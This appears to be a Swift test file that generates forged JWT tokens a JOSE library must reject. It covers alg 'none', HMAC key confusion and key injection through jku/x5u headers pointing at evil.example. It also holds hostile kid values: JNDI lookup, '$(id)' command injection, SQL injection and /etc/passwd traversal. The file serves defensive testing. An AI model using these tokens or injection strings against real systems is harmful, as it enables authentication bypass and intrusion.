// Attack tokens of our own making, by class, each with the word that refuses it.
import Cryptography
import JSON
import Testing

@testable import JOSE

/// One token that must be refused, and why.
struct Attack: Sendable, CustomTestStringConvertible {
    /// The class, with its rows of the table of faults.
    let kind: String
    let name: String
    let token: [UInt8]
    /// The stable word.
    let reason: String
    var keys: JWKSet?
    var algorithms = Algorithm.asymmetric

    var testDescription: String { "\(kind): \(name)" }
}

/// Makes attacks; its honest verifier has a key of each kind, named after it.
struct AttackTable {
    let rsa: PrivateKey
    let ec: PrivateKey
    let edwards: PrivateKey
    let stranger: PrivateKey
    let payload: String
    private(set) var attacks: [Attack] = []

    init() throws {
        rsa = try Fixture.privateKey(.rsa(bits: 2048))
        ec = try Fixture.privateKey(.elliptic(.p256))
        edwards = try Fixture.privateKey(.octets(.ed25519))
        stranger = try .generate(.elliptic(.p256))
        payload = Fixture.claims().serializedString
        try none()
        try confusion()
        try crossing()
        try injection()
        try names()
        try critical()
        try duplicates()
        try sizes()
        try encodings()
        try signatures()
        try edges()
        try cuts()
        try weakKeys()
        try sealed()
        try oracles()
    }

    /// The keys of the honest verifier.
    var keys: JWKSet {
        JWKSet([
            JWK(.publicKey(rsa.publicKey), kid: "rsa"), JWK(.publicKey(ec.publicKey), kid: "ec"),
            JWK(.publicKey(edwards.publicKey), kid: "ed"), JWK(.privateKey(rsa), kid: "enc", use: "enc"),
            JWK(.symmetric(Secret([UInt8](0..<32))), kid: "dir"),
        ])
    }

    mutating func add(
        _ kind: String,
        _ name: String,
        _ token: [UInt8],
        _ reason: String,
        keys: JWKSet? = nil,
        algorithms: Set<Algorithm> = Algorithm.asymmetric
    ) {
        attacks.append(
            Attack(kind: kind, name: name, token: token, reason: reason, keys: keys, algorithms: algorithms)
        )
    }

    /// The signed part of a token.
    func signed(_ header: String, _ payload: String? = nil) -> [UInt8] {
        let parts = [header, payload ?? self.payload].map { Base64URL.encode(Array($0.utf8)) }
        return Array(parts.joined(separator: ".").utf8)
    }

    func join(_ signed: [UInt8], _ signature: [UInt8]) -> [UInt8] {
        signed + Array(("." + Base64URL.encode(signature)).utf8)
    }

    /// A token that the key on P-256 has signed, whatever its texts say.
    func token(_ header: String, _ payload: String? = nil, by key: PrivateKey? = nil) throws -> [UInt8] {
        let text = signed(header, payload)
        return join(text, try Signature.sign(text.span, with: key ?? ec, .ecdsa(.sha256)))
    }

    // MARK: Algorithms

    private mutating func none() throws {
        let spellings = [
            "none", "None", "NONE", "nOnE", "NoNe", "nonE", "none ", " none", #"none\t"#, #"none\n"#,
            #"\u006eone"#, #"n\u006Fne"#, "", "null", "undefined", "none,ES256", "ES256,none", "ΝΟΝΕ", "noｎe",
        ]
        for spelling in spellings {
            let header = #"{"alg":"\#(spelling)","kid":"ec"}"#
            let name = "alg is '\(spelling)'"
            add("none (J1)", name + ", no signature", join(signed(header), []), "unsupported-algorithm")
            add("none (J1)", name + ", zeros", join(signed(header), Self.zeros(64)), "unsupported-algorithm")
            add("none (J1)", name + ", well signed", try token(header), "unsupported-algorithm")
        }
        for alg in ["null", "0", "false", "[]", #"["none"]"#, #"["ES256"]"#, "{}", #"{"ES256":1}"#] {
            add("none (J1)", "alg is \(alg)", try token(#"{"alg":\#(alg)}"#), "malformed")
        }
        for header in ["{}", #"{"Alg":"ES256"}"#, #"{"ALG":"ES256"}"#, #"{"alg ":"ES256"}"#] {
            add("none (J1)", "the header is \(header)", try token(header), "malformed")
        }
    }

    static func zeros(_ count: Int) -> [UInt8] { [UInt8](repeating: 0, count: count) }

    /// A public key's bytes as the secret of a MAC.
    private mutating func confusion() throws {
        guard case .rsa(let modulus, _) = rsa.publicKey.components,
            case .elliptic(_, let x, let y) = ec.publicKey.components,
            case .octets(_, let point) = edwards.publicKey.components
        else { throw CryptoError.unsupportedKey }
        let json = JWK(.publicKey(rsa.publicKey)).publicJSON?.serialized() ?? []
        let pem = try rsa.publicKey.pem()
        let secrets: [(String, String, [UInt8])] = [
            ("rsa", "PEM", Array(pem.utf8)),
            ("rsa", "PEM without its last line break", Array(pem.utf8.dropLast())),
            ("rsa", "modulus", modulus), ("rsa", "JWK", json),
            ("rsa", "thumbprint", Array(try JWK(.publicKey(rsa.publicKey)).thumbprint().utf8)),
            ("ec", "PEM", Array(try ec.publicKey.pem().utf8)), ("ec", "x", x), ("ec", "point", [4] + x + y),
            ("ed", "PEM", Array(try edwards.publicKey.pem().utf8)), ("ed", "point", point),
            ("rsa", "one zero", [0]),
        ]
        for (kid, name, secret) in secrets {
            for (algorithm, digest) in [("HS256", Digest.sha256), ("HS384", .sha384), ("HS512", .sha512)] {
                let text = signed(#"{"alg":"\#(algorithm)","kid":"\#(kid)"}"#)
                let code = try HMAC(digest, key: Secret(secret)).code(for: text)
                let name = "\(algorithm) under the \(name) of \(kid)"
                add("confusion (J2)", name, join(text, code), "algorithm-not-allowed")
                add(
                    "confusion (J2)",
                    name + ", MACs allowed",
                    join(text, code),
                    "algorithm-not-allowed",
                    algorithms: Set(Algorithm.allCases)
                )
            }
        }
    }

    /// A signature of one algorithm under the name of another.
    private mutating func crossing() throws {
        let schemes: [(String, SignatureScheme)] = [
            ("RS256", .rsaPKCS1(.sha256)), ("RS384", .rsaPKCS1(.sha384)), ("RS512", .rsaPKCS1(.sha512)),
            ("PS256", .rsaPSS(.sha256)), ("PS384", .rsaPSS(.sha384)), ("PS512", .rsaPSS(.sha512)),
        ]
        for (said, _) in schemes {
            let text = signed(#"{"alg":"\#(said)","kid":"rsa"}"#)
            for (used, scheme) in schemes where used != said {
                let signature = try Signature.sign(text.span, with: rsa, scheme)
                add(
                    "wrong algorithm (B1, J5)",
                    "\(said), signed by \(used)",
                    join(text, signature),
                    "bad-signature"
                )
            }
        }
        for said in ["RS256", "PS256", "ES384", "ES512", "ES256K", "EdDSA"] {
            let header = #"{"alg":"\#(said)","kid":"ec"}"#
            add(
                "wrong curve (J5, B1)",
                "\(said) of a key on P-256",
                try token(header),
                "algorithm-not-allowed"
            )
        }
        for said in ["ES256", "ES384", "ES512", "ES256K", "EdDSA"] {
            let header = #"{"alg":"\#(said)","kid":"rsa"}"#
            add("wrong curve (J5, B1)", "\(said) of an RSA key", try token(header), "algorithm-not-allowed")
        }
        for curve in [EllipticCurve.p384, .p521, .secp256k1] {
            let key = try Fixture.privateKey(.elliptic(curve))
            let text = signed(#"{"alg":"ES256","kid":"ec"}"#)
            let signature = try Signature.sign(text.span, with: key, .ecdsa(.sha256))
            add("wrong curve (J5, B1)", "ES256, signed on \(curve)", join(text, signature), "bad-signature")
        }
    }

    // MARK: What the header names

    private mutating func injection() throws {
        let jwk = JWK(.publicKey(stranger.publicKey)).publicJSON?.serializedString ?? ""
        let brought: [(String, String)] = [
            ("jwk", #""jwk":\#(jwk)"#), ("jku", #""jku":"https://evil.example/keys""#),
            ("jku on loopback", #""jku":"http://127.0.0.1:9/keys""#),
            ("jku of a file", #""jku":"file:///etc/keys""#),
            ("x5u", #""x5u":"https://evil.example/cert""#), ("x5c", #""x5c":["MIIBszCCARygAwIBAgIB"]"#),
            ("x5t", #""x5t":"dGh1bWJwcmludA""#), ("x5t#S256", #""x5t#S256":"dGh1bWJwcmludA""#),
            ("jwk and jku", #""jwk":\#(jwk),"jku":"https://evil.example/keys""#),
        ]
        for (name, member) in brought {
            for (kid, reason) in [
                ("", "bad-signature"), (#","kid":"ec""#, "bad-signature"), (#","kid":"mine""#, "unknown-key"),
            ] {
                let header = #"{"alg":"ES256"\#(kid),\#(member)}"#
                add("key injection (J4, B9)", "\(name), \(kid)", try token(header, by: stranger), reason)
            }
        }
    }

    private mutating func names() throws {
        let kids = [
            "", "EC", "ec ", " ec", "ec\\n", "ec\\u0009", "../../../dev/null", "..\\\\..\\\\nul", "/dev/null",
            "/proc/self/environ", "file:///etc/passwd", "keys/../ec", "ec/../ec", "ec%00", "ec;", "ec?x=1",
            "ec#x",
            "' OR '1'='1", "x' UNION SELECT 'secret';--", "1; DROP TABLE keys", "\\\"; return true; //",
            "$(id)", "`id`", "| id", "${jndi:ldap://evil.example/x}", "http://127.0.0.1:9/ec", "{{7*7}}",
            "ec\\u200b", "е\\u0441", "*", "%", "_", ".*", String(repeating: "k", count: 9000),
        ]
        for kid in kids {
            let header = #"{"alg":"ES256","kid":"\#(kid)"}"#
            add("kid (J10, B9)", "'\(kid.prefix(40))'", try token(header), "unknown-key")
        }
        for kid in ["null", "0", "true", "[]", #"["ec"]"#, "{}", #""ec\u0000""#] {
            add("kid (J10, B9)", "kid is \(kid)", try token(#"{"alg":"ES256","kid":\#(kid)}"#), "malformed")
        }
    }

    private mutating func critical() throws {
        let members = [
            #""crit":[]"#, #""crit":"exp""#, #""crit":{}"#, #""crit":null"#, #""crit":true"#, #""crit":1"#,
            #""crit":["exp"],"exp":1"#, #""crit":["x"]"#, #""crit":["alg"]"#, #""crit":["kid","x"]"#,
            #""crit":[1]"#, #""crit":[null]"#, #""crit":["x","x"],"x":1"#, #""crit":[""]"#,
            #""crit":["http://example.com/UNDEFINED"],"http://example.com/UNDEFINED":true"#,
            #""crit":["b64"],"b64":true"#, #""cri\u0074":["x"]"#,
        ]
        for member in members {
            add("crit (J6)", member, try token(#"{"alg":"ES256","kid":"ec",\#(member)}"#), "critical-header")
        }
        let unencoded = [
            #""b64":false"#, #""b64":0"#, #""b64":"false""#, #""b64":null"#, #""b64":[]"#,
            #""\u0062\u0036\u0034":false"#,
            #""b64":false,"crit":["b64"]"#,
        ]
        for member in unencoded {
            add("b64 (J6)", member, try token(#"{"alg":"ES256","kid":"ec",\#(member)}"#), "critical-header")
        }
        let text = Array(
            (Base64URL.encode(Array(#"{"alg":"ES256","b64":false,"crit":["b64"]}"#.utf8)) + ".{}").utf8
        )
        let signature = try Signature.sign(text.span, with: ec, .ecdsa(.sha256))
        add("b64 (J6)", "a payload as it is", join(text, signature), "malformed")
    }
}
